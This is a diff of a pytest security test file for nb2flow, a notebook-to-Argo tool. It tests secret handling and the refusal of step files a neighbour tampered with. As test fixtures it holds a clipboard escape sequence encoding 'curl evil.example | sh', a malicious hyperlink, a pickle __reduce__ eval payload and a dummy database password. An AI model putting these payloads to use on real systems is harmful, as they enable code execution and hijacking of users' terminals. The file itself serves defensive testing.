@@ -5,10 +5,20 @@ folder is loaded or executed as you (see also test_in_pod.py for other users' wo
 test_argo_manifest.py and test_replay.py for credentials and the steps' token).
 """
 
+import hashlib
+import hmac
+import json
 import os
+import pickle
+import shutil
+from pathlib import Path
 
-from helpers import nb2flow, only_run_dir
+import pytest
+
+from helpers import emit_manifest, nb2flow, only_run_dir, pod_replay_or_skip
 from nbutil import cell, write
+
+from nb2flow.argo import dump
 
 OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
 OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
@@ -41,15 +51,6 @@ def test_terminal_commands_in_an_api_servers_message_are_not_printed(tmp_path):
 
 
 # ------------------------------------------------------------------ a neighbour on the team folder
-
-import hashlib
-import hmac
-import json
-import pickle
-import shutil
-from pathlib import Path
-
-import pytest
 
 
 class Payload:
@@ -160,3 +161,108 @@ def test_the_run_folders_are_owner_only_whatever_the_umask(team):
         elif path.suffix in (".pkl", ".sig", ".json", ".ipynb", ".py"):
             assert path.stat().st_mode & 0o077 == 0, path
     assert (Path(victim["HOME"]) / ".config" / "nb2flow" / "key").stat().st_mode & 0o777 == 0o600
+
+
+# ------------------------------------------------------------------ in the pods (the pod-faithful replay)
+
+def test_credentials_reach_the_steps_through_the_runs_secret_and_the_steps_get_no_token(tmp_path):
+    """Submitted to the test API server: the notebook pod's credentials are in a Secret owned by the Workflow,
+    never in the Workflow; replayed as pods, the step reads them from the Secret, and its container has no
+    service-account token (the executor's account is Argo's alone)."""
+    import base64
+    import copy
+
+    from kubeserver import FakeKube
+    from nbutil import cell, write
+    from podreplay import REPLAY_TOKEN, kubelet_fs_group, run_pods
+
+    from helpers import JH_CLAIM, jupyterhub_pod, run_in_process
+
+    pod_replay_or_skip()
+    db = "postgresql://analyst:hunter2-db@db.internal:5432/sales"
+    pod = jupyterhub_pod()
+    pod["spec"]["containers"][0]["env"].append({"name": "DATABASE_URL", "value": db})
+    (tmp_path / "pod.json").write_text(json.dumps(pod))
+    claim = tmp_path / "claim"
+    work = claim / "work"
+    work.mkdir(parents=True)
+    (work / "nb2flow.yaml").write_text("workdir: /home/jovyan/work\nshared_workdir: true\n")
+    token_file = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+    write(work / "c.ipynb", cell("import os, json", "setup"), cell("url = os.environ['DATABASE_URL']", "step:read"),
+          cell(f"json.dump({{'url': url, 'token': os.path.exists({token_file!r})}}, open('out.json', 'w'))", "step:write"))
+    with FakeKube() as kube:
+        config = kube.kubeconfig(tmp_path / "kubeconfig")
+        r = run_in_process(["run", "c.ipynb", "--argo", "--pod-spec", str(tmp_path / "pod.json")], cwd=work,
+                           env={"KUBECONFIG": config, "KUBERNETES_SERVICE_HOST": None, "HOME": str(tmp_path)})
+        assert r.returncode == 0, r.stderr
+        name = r.stdout.strip()
+        workflow = kube.objects[("workflows", "jhub", name)]
+        secret_name = workflow["metadata"]["annotations"]["nb2flow.io/env-secret"]
+        secret = kube.objects[("secrets", "jhub", secret_name)]
+    assert db not in json.dumps(workflow) and "hunter2" not in r.stderr + r.stdout
+    assert secret["metadata"]["ownerReferences"] == [{"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "name": name,
+                                                      "uid": workflow["metadata"]["uid"]}]
+    values = {(secret_name, k): base64.b64decode(v).decode() for k, v in secret["data"].items()}
+    kubelet_fs_group(claim, 100)
+    results = run_pods(workflow, {JH_CLAIM: claim}, name=name, secrets=values)
+    assert {t: r.exit_code for t, r in results.items()} == {"read": 0, "write": 0, "onExit": 0}, [r.log for r in results.values()]
+    assert json.loads((work / "out.json").read_text()) == {"url": db, "token": False}
+    # the replay does mount the token where a workflow lets Kubernetes do so: the check above can fail
+    open_wf = copy.deepcopy(workflow)
+    del open_wf["spec"]["automountServiceAccountToken"]
+    (work / "out.json").unlink()
+    results = run_pods(open_wf, {JH_CLAIM: claim}, name=name + "-open", secrets=values)
+    assert results["write"].exit_code == 0, results["write"].log
+    assert json.loads((work / "out.json").read_text())["token"] is True
+    assert REPLAY_TOKEN not in results["write"].log
+
+
+@pytest.mark.parametrize("planted", ["runner", "step notebook", "value"])
+def test_step_pods_refuse_files_a_neighbour_changed_on_the_volume(tmp_path, planted):
+    """A schedule's step files stay on the shared volume for months: a neighbour (uid 1000 too) who changes the
+    runner, a step notebook or a saved value gets nothing run — the pod checks the runner's SHA-256 pinned in the
+    manifest and every other file's signature with the key from the run's Secret, and says which file."""
+    import pickle
+
+    from nbutil import cell, write
+    from podreplay import kubelet_fs_group, manifest_from_yaml, run_pods
+
+    from helpers import JH_CLAIM
+
+    pod_replay_or_skip()
+    claim = tmp_path / "claim"
+    (claim / "work").mkdir(parents=True)
+    marker = claim / "work" / "pwned"
+    nb = write(claim / "work" / "s.ipynb", cell("x = 40", "step:a"), cell("print(x + 2)", "step:b"))
+    manifest = manifest_from_yaml(dump(emit_manifest(Path(nb), {})))
+    bundle = next((claim / "work" / ".nb2flow" / "bundles").iterdir())
+    code = f"open({str(marker).replace(str(claim), '/home/jovyan')!r}, 'w').close()\n"
+    if planted == "runner":
+        runner = bundle / "nb2flow_step.py"
+        runner.write_text(code + runner.read_text())
+        refused = f"/home/jovyan/work/.nb2flow/bundles/{bundle.name}/nb2flow_step.py: not the step runner nb2flow wrote"
+    elif planted == "step notebook":
+        step_nb = bundle / "steps" / "b.ipynb"
+        doc = json.loads(step_nb.read_text())
+        doc["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": code, "outputs": [], "execution_count": None})
+        step_nb.write_text(json.dumps(doc))
+        refused = f"/home/jovyan/work/.nb2flow/bundles/{bundle.name}/steps/b.ipynb: its signature was not made with your key"
+    kubelet_fs_group(claim, 100)
+    if planted == "value":  # a's value, replaced between the two steps
+        first = run_pods(manifest, {JH_CLAIM: claim}, name="wf-v", stop_after="a")
+        assert first["a"].exit_code == 0
+        value = claim / "work" / ".nb2flow" / "runs" / "wf-v" / "values" / "a" / "x.pkl"
+
+        class Payload:
+            def __reduce__(self):
+                return (eval, (code,))
+
+        value.write_bytes(pickle.dumps(Payload()))
+        manifest["spec"]["templates"][0]["dag"]["tasks"] = [t for t in manifest["spec"]["templates"][0]["dag"]["tasks"] if t["name"] == "b"]
+        for t in manifest["spec"]["templates"][0]["dag"]["tasks"]:
+            t.pop("dependencies", None)
+        refused = "/home/jovyan/work/.nb2flow/runs/wf-v/values/a/x.pkl: its signature was not made with your key"
+    results = run_pods(manifest, {JH_CLAIM: claim}, name="wf-v")
+    target = results["a" if planted == "runner" else "b"]
+    assert target.exit_code != 0 and refused in target.log, target.log
+    assert not marker.exists()
